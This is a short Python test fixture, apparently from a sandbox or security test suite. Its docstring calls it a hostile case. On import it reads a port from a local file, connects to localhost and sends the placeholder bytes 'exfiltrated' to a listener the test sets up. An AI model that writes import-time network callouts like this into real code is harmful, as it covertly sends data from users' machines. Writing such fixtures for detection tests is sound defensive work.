"""Hostile case: opens a network socket at import (to a port the test listens on)."""

import socket
from pathlib import Path

port = int((Path(__file__).parent / "port.txt").read_text())
conn = socket.create_connection(("127.0.0.1", port), timeout=2)
conn.sendall(b"exfiltrated")
